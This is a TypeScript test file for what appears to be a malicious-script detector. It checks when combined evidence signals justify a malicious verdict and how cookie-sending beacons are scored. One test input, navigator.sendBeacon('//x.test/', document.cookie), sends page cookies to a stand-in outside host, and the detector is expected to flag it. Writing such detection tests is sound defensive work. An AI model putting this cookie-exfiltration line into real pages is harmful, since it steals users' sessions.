import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { type Evidence, isSufficient, type Proof } from './evidence.ts';
import { classifyScript } from './script-classifier.ts';

describe('evidence of a malicious verdict', () => {
  const cases: readonly (readonly [shown: readonly (readonly Evidence[])[], isEnough: boolean])[] =
    [
      [[], false],
      [[['taken']], false],
      [[['taken'], ['taken']], false],
      [[['taken'], ['destination']], true],
      [[['destination'], [], ['taken']], true],
      [[['taken'], ['hidden']], false],
      [[['taken'], ['hidden', 'obfuscated']], true],
      [[['run']], false],
      [[['run'], ['hidden']], true],
      [[['hidden'], ['destination']], false],
      [[['run'], ['destination']], false],
      [[['run', 'hidden']], false],
      [[['run', 'hidden'], ['run']], true],
      [[['decisive']], true],
    ];
  for (const [shown, isEnough] of cases) {
    it(`${isEnough ? 'suffices' : 'does not suffice'}: ${JSON.stringify(shown)}`, () => {
      assert.equal(
        isSufficient(shown.map((shows) => ({ shows, places: new Map([[1, new Set([7])]]) }))),
        isEnough,
      );
    });
  }

  it('does not suffice if one thing is taken and another one goes elsewhere', () => {
    const proofs = (layer: number, node: number): readonly Proof[] => [
      { shows: ['taken'], places: new Map([[1, new Set([7, 9])]]) },
      { shows: ['destination'], places: new Map([[layer, new Set([node])]]) },
    ];
    assert.ok(isSufficient(proofs(1, 9)));
    assert.ok(!isSufficient(proofs(1, 8)));
    assert.ok(!isSufficient(proofs(2, 9)));
  });

  it('does not suffice if what is run is far away from what is hidden, unless one layer hides the other', () => {
    const proofs = (layer: number, node: number): readonly Proof[] => [
      { shows: ['run'], places: new Map([[1, new Set([7])]]) },
      { shows: ['hidden'], places: new Map([[layer, new Set([node])]]) },
    ];
    assert.ok(isSufficient(proofs(1, 9000)));
    assert.ok(!isSufficient(proofs(1, 90_000)));
    assert.ok(isSufficient(proofs(2, 90_000)));
  });

  const integrity = (code: string): number | undefined => {
    const verdict = classifyScript(code);
    return verdict.kind === 'scored' ? verdict.scores.integrity : undefined;
  };

  it('is missing if cookies go to a host that the settings name', () => {
    assert.equal(integrity(`navigator.sendBeacon(settings.url, document.cookie);`), 10);
    assert.equal(integrity(`navigator.sendBeacon('/own', document.cookie);`), 10);
    assert.ok((integrity(`navigator.sendBeacon('//x.test/', document.cookie);`) ?? 99) < 10);
  });
});
